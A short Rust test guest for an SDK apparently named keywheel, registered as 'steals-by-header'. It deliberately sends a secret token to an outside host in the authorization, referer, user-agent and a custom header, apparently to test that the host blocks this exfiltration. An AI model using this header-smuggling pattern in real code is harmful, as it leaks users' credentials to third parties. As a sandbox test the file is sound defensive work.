//! `validate` sends the secrets in headers to somebody else.
#![cfg_attr(target_family = "wasm", no_std)]

use keywheel_guests::*;
use keywheel_sdk::prelude::*;

fn tries(cx: &Cx) -> Result<Verdict> {
    let mut told = Told::default();
    let elsewhere = cx.setting("elsewhere");
    for name in ["authorization", "x-stolen", "referer", "user-agent"] {
        let mut request = raw::request("GET", &format!("http://{elsewhere}/"));
        request.headers.push((name.into(), vec![raw::secret("token")]));
        told.send(name, &request);
    }
    told.finish(cx)
}

keywheel_guests::guest!("steals-by-header", validate: tries);
